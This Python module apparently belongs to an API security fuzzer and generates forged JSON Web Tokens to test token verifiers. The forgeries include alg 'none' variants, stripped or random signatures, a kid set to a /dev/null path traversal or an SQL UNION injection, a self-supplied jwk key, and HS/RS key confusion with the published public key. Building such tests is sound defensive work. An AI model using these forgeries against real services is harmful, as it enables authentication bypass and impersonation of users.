"""Tokens that a careless verifier takes for genuine, made without its key: unsigned, unchecked, or signed by us.

`jku` and `x5u` are left alone: to try them, the API would have to fetch a key from another origin.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from functools import cache
from random import Random
from typing import Any

from specfuzz.sessions.decode import to_base64url
from specfuzz.sessions.decoded import Decoded

NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
"""`alg` as verifiers that forbid only the first of them take it (the flaw of many libraries in 2015, and again in 2020)."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Forgery:
    """One forged token, and how it was made, in words that finish the sentence "a token …"."""

    how: str
    token: str = field(repr=False)


def _part(value: Any) -> str:
    return to_base64url(json.dumps(value, separators=(",", ":")).encode())


def _parts(decoded: Decoded) -> tuple[str, str, str]:
    head, body, signature = decoded.text.split(".")
    return head, body, signature


def unsigned(decoded: Decoded) -> Iterator[Forgery]:
    """The same claims under `alg: none`, in its spellings, without a signature (RFC 7518, 3.6)."""
    body = _parts(decoded)[1]
    for spelling in NONE_SPELLINGS:
        header = _part({**decoded.header, "alg": spelling})
        yield Forgery(how=f"that says alg {spelling} and has no signature", token=f"{header}.{body}.")
    yield Forgery(
        how="that says alg none and still has its old signature",
        token=f"{_part({**decoded.header, 'alg': 'none'})}.{body}.{_parts(decoded)[2]}",
    )


def with_claims(decoded: Decoded, claims: Mapping[str, Any]) -> Forgery:
    """Other claims under the old signature."""
    head, _, signature = _parts(decoded)
    return Forgery(how="with changed claims and the old signature", token=f"{head}.{_part(dict(claims))}.{signature}")


def with_random_signature(decoded: Decoded, source: Random) -> Forgery:
    """The same claims under a signature of the right length that no key made."""
    head, body, _ = _parts(decoded)
    made = source.randbytes(len(decoded.signature) or 32)
    return Forgery(how="with a made-up signature", token=f"{head}.{body}.{to_base64url(made)}")


def without_signature(decoded: Decoded) -> Forgery:
    """The same header and claims with nothing behind the last dot."""
    head, body, _ = _parts(decoded)
    return Forgery(how="whose signature is cut off", token=f"{head}.{body}.")


def with_tricked_kid(decoded: Decoded) -> Iterator[Forgery]:
    """A `kid` that leads to a key we know: a file that is empty, a row that a query makes up (RFC 7515, 4.1.4 warns)."""
    body = _parts(decoded)[1]
    known = "specfuzz"
    tricks = (
        ("../../../../../../../dev/null", b"", "whose kid is the path of an empty file, signed with the empty key"),
        ("/dev/null", b"", "whose kid is an empty file, signed with the empty key"),
        (f"x' UNION SELECT '{known}' -- ", known.encode(), "whose kid ends a quotation and selects a key of its own"),
    )
    for kid, key, how in tricks:
        signed = f"{_part({**decoded.header, 'alg': 'HS256', 'kid': kid})}.{body}"
        yield Forgery(how=how, token=f"{signed}.{to_base64url(_hmac(key, signed))}")


def with_own_key(decoded: Decoded) -> Forgery:
    """Signed with a key of ours that the header brings along (`jwk`; CVE-2018-0114)."""
    from jwt.algorithms import RSAAlgorithm

    private = _own_key()
    public = RSAAlgorithm.to_jwk(private.public_key(), as_dict=True)
    jwk = {name: public[name] for name in ("kty", "n", "e")} | {"kid": "specfuzz", "use": "sig", "alg": "RS256"}
    header = {**decoded.header, "alg": "RS256", "kid": "specfuzz", "jwk": jwk}
    signed = f"{_part(header)}.{_parts(decoded)[1]}"
    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(signed.encode(), private)
    return Forgery(
        how="signed with a key that its own header brings along", token=f"{signed}.{to_base64url(signature)}"
    )


@cache
def _own_key() -> Any:
    """One RSA key for a run; it protects nothing."""
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65_537, key_size=2_048)


def with_public_key_as_secret(decoded: Decoded, jwks: Any) -> Iterator[Forgery]:
    """Signed with HMAC, the published public key as the secret: HS/RS confusion (CVE-2015-9235, CVE-2016-10555).

    `jwks` is what the API publishes (RFC 7517, 5); of a key that cannot be read, nothing is made.
    """
    body = _parts(decoded)[1]
    for pem in _public_pems(jwks, decoded.header.get("kid")):
        for key in (pem, pem.rstrip(b"\n")):
            signed = f"{_part({**decoded.header, 'alg': 'HS256'})}.{body}"
            yield Forgery(
                how="signed by HMAC with the API's public key as the secret",
                token=f"{signed}.{to_base64url(_hmac(key, signed))}",
            )


def _public_pems(jwks: Any, kid: Any) -> Iterator[bytes]:
    import jwt
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    keys = jwks.get("keys") if isinstance(jwks, Mapping) else None
    listed = [key for key in keys if isinstance(key, Mapping)] if isinstance(keys, list) else []
    chosen = [key for key in listed if key.get("kid") == kid] or listed
    for key in chosen[:3]:
        try:
            loaded = jwt.PyJWK(dict(key)).key
        except (jwt.PyJWTError, ValueError, TypeError, KeyError):
            continue  # a key for encryption, or of a kind that nobody here reads
        if hasattr(loaded, "public_bytes"):
            yield loaded.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def _hmac(key: bytes, signed: str) -> bytes:
    import hmac

    return hmac.digest(key, signed.encode(), "sha256")


def is_asymmetric(decoded: Decoded) -> bool:
    return decoded.algorithm[:2].upper() in ("RS", "PS", "ES", "ED")
